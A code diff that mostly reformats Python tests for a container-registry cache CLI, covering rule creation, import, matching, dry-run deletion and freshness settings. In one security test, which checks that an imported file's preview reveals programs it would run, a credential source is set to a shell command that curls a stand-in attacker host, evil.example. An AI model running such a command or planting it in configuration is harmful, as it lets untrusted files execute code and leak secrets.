@@ -28,14 +28,35 @@ RULE_KEYS = {
 
 
 async def test_a_rule_from_its_creation_to_its_end(entrepot: CommandLine, engine: Engine) -> None:
-    made = await entrepot.ask("rule", "create", "--name", "acme-api", "--source-repo", f"{LOGIN_SERVER}/acme/api", "--target-repo", "api")
+    made = await entrepot.ask(
+        "rule",
+        "create",
+        "--name",
+        "acme-api",
+        "--source-repo",
+        f"{LOGIN_SERVER}/acme/api",
+        "--target-repo",
+        "api",
+    )
     assert made.keys() == RULE_KEYS
-    assert (made["name"], made["sourceRepository"], made["targetRepository"], made["credentialSet"]) == ("acme-api", f"{LOGIN_SERVER}/acme/api", "api", None)
-    assert [each["name"] for each in await entrepot.ask("rule", "list")] == ["acme-api", "example-library"]
+    assert (
+        made["name"],
+        made["sourceRepository"],
+        made["targetRepository"],
+        made["credentialSet"],
+    ) == ("acme-api", f"{LOGIN_SERVER}/acme/api", "api", None)
+    assert [each["name"] for each in await entrepot.ask("rule", "list")] == [
+        "acme-api",
+        "example-library",
+    ]
     assert await entrepot.ask("rule", "show", "--name", "ACME-API") == made
     await entrepot.done("credential-set", "create", "-n", "example-set", *SET)
-    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "-c", "example-set"))["credentialSet"] == "example-set"
-    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "--remove-cred-set"))["credentialSet"] is None
+    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "-c", "example-set"))[
+        "credentialSet"
+    ] == "example-set"
+    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "--remove-cred-set"))[
+        "credentialSet"
+    ] is None
     ended = await entrepot.done("rule", "delete", "-n", "acme-api", "--yes")
     assert (ended.output, ended.errors) == ("", "The cache rule acme-api is deleted.\n")
     assert [rule.name for rule in engine.documents.rules] == ["example-library"]
@@ -44,7 +65,16 @@ async def test_a_rule_from_its_creation_to_its_end(entrepot: CommandLine, engine
 async def test_rules_are_listed_in_columns(entrepot: CommandLine) -> None:
     title, line = (await entrepot.done("rule", "list")).output.splitlines()
     assert title.split("  ")[0] == "Name"
-    assert line.split() == ["example-library", f"{LOGIN_SERVER}/library/*", "library/*", "-", "5", "min", "0", "never"]
+    assert line.split() == [
+        "example-library",
+        f"{LOGIN_SERVER}/library/*",
+        "library/*",
+        "-",
+        "5",
+        "min",
+        "0",
+        "never",
+    ]
 
 
 async def test_a_rule_is_shown_in_lines(entrepot: CommandLine) -> None:
@@ -54,7 +84,9 @@ async def test_a_rule_is_shown_in_lines(entrepot: CommandLine) -> None:
     assert "Freshness            5 min (the default)\n" in told
 
 
-async def test_rules_are_imported_all_or_none(entrepot: CommandLine, engine: Engine, tmp_path: Path) -> None:
+async def test_rules_are_imported_all_or_none(
+    entrepot: CommandLine, engine: Engine, tmp_path: Path
+) -> None:
     good = f'[[rules]]\nname = "acme-app"\nsource_repository = "{LOGIN_SERVER}/acme/*"\ntarget_repository = "acme/*"\n'
     file = tmp_path / "rules.toml"
     file.write_text(good + good.replace("acme-app", "acme-two"))
@@ -63,36 +95,55 @@ async def test_rules_are_imported_all_or_none(entrepot: CommandLine, engine: Eng
     assert "Error: line 5: acme-two: " in refused.errors
     assert refused.errors.endswith("Nothing is imported.\n")
     file.write_text(good)
-    assert (await entrepot.done("rule", "import", "--dry-run", str(file))).errors == "1 would be imported, 0 unchanged.\n"
+    assert (
+        await entrepot.done("rule", "import", "--dry-run", str(file))
+    ).errors == "1 would be imported, 0 unchanged.\n"
     assert len(engine.documents.rules) == 1
     assert (await entrepot.done("rule", "import", str(file))).errors == "1 imported, 0 unchanged.\n"
-    assert [each["outcome"] for each in (await entrepot.ask("rule", "import", str(file)))["entries"]] == ["unchanged"]
+    assert [
+        each["outcome"] for each in (await entrepot.ask("rule", "import", str(file)))["entries"]
+    ] == ["unchanged"]
     assert len(engine.documents.rules) == 2
 
 
 async def test_which_rule_answers_for_an_image(entrepot: CommandLine) -> None:
     told = (await entrepot.done("rule", "match", "library/nginx:1.27")).output
-    assert f"Rule            example-library\nSource          {LOGIN_SERVER}/library/nginx\n" in told
+    assert (
+        f"Rule            example-library\nSource          {LOGIN_SERVER}/library/nginx\n" in told
+    )
     none = await entrepot.run("rule", "match", "nginx")
     assert (none.status, "example-library: library/* from" in none.output) == (1, True)
 
 
-async def test_a_dry_run_of_a_deletion_deletes_nothing(entrepot: CommandLine, engine: Engine, source: StandIn) -> None:
+async def test_a_dry_run_of_a_deletion_deletes_nothing(
+    entrepot: CommandLine, engine: Engine, source: StandIn
+) -> None:
     source.add_image("library/nginx", "1.27", platforms=["linux/amd64"])
     await entrepot.done("pull", "library/nginx:1.27", "--platform", "linux/amd64")
     told = (await entrepot.done("repository", "delete", "library/nginx", "--dry-run")).output
     assert "Would be deleted  library/nginx\nGoes              1 tag, 2 manifests, " in told
-    assert (await entrepot.done("rule", "delete", "--name", "example-library", "--dry-run")).output.endswith("Left without a rule  library/nginx\n")
+    assert (
+        await entrepot.done("rule", "delete", "--name", "example-library", "--dry-run")
+    ).output.endswith("Left without a rule  library/nginx\n")
     await entrepot.done("repository", "lock", "library/nginx")
     refused = await entrepot.run("repository", "delete", "library/nginx", "--dry-run")
     assert (refused.status, "Refused " in refused.output) == (1, True)
-    assert ([each.name for each in engine.documents.rules], await engine.catalog.repository_names()) == (["example-library"], ["library/nginx"])
+    assert (
+        [each.name for each in engine.documents.rules],
+        await engine.catalog.repository_names(),
+    ) == (["example-library"], ["library/nginx"])
 
 
-async def test_the_freshness_of_a_rule_is_given_changed_and_taken_back(entrepot: CommandLine) -> None:
+async def test_the_freshness_of_a_rule_is_given_changed_and_taken_back(
+    entrepot: CommandLine,
+) -> None:
     arguments = ("--source-repo", f"{LOGIN_SERVER}/acme/api", "--target-repo", "api")
-    assert (await entrepot.ask("rule", "create", "-n", "acme-api", *arguments, "--freshness", "90s"))["freshness"] == "90 s"
-    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "--freshness", "never"))["freshness"] == "never"
+    assert (
+        await entrepot.ask("rule", "create", "-n", "acme-api", *arguments, "--freshness", "90s")
+    )["freshness"] == "90 s"
+    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "--freshness", "never"))[
+        "freshness"
+    ] == "never"
     changed = await entrepot.ask("rule", "update", "-n", "acme-api", "--freshness", "default")
     assert (changed["freshness"], changed["freshnessInForce"]) == (None, "5 min")
     refused = await entrepot.run("rule", "update", "-n", "acme-api", "--freshness", "soon")
@@ -101,7 +152,9 @@ async def test_the_freshness_of_a_rule_is_given_changed_and_taken_back(entrepot:
     assert "FreshnessInvalid" in refused.errors
 
 
-async def test_an_import_shows_where_its_secrets_are_kept_and_asks_before_programs_run(entrepot: CommandLine, engine: Engine, tmp_path: Path) -> None:
+async def test_an_import_shows_where_its_secrets_are_kept_and_asks_before_programs_run(
+    entrepot: CommandLine, engine: Engine, tmp_path: Path
+) -> None:
     """S13: a file from the net must not run a program that its preview does not show."""
     file = tmp_path / "net.toml"
     program = "command:/bin/sh -c 'curl evil.example'"
@@ -112,7 +165,9 @@ async def test_an_import_shows_where_its_secrets_are_kept_and_asks_before_progra
     shown = await entrepot.run("rule", "import", str(file), "--dry-run")
     head, first, second = shown.output.splitlines()
     assert head.split("  ")[-1].strip() == "Password"
-    assert all(part in first for part in (LOGIN_SERVER, "new, runs a program", "env:AWS_SECRET", program))
+    assert all(
+        part in first for part in (LOGIN_SERVER, "new, runs a program", "env:AWS_SECRET", program)
+    )
     assert all(part in second for part in ("contoso.azurecr.io", "can't be", "env:P"))
     # What is no identifier may be the secret itself.
     assert "hunter2" not in shown.output + shown.errors
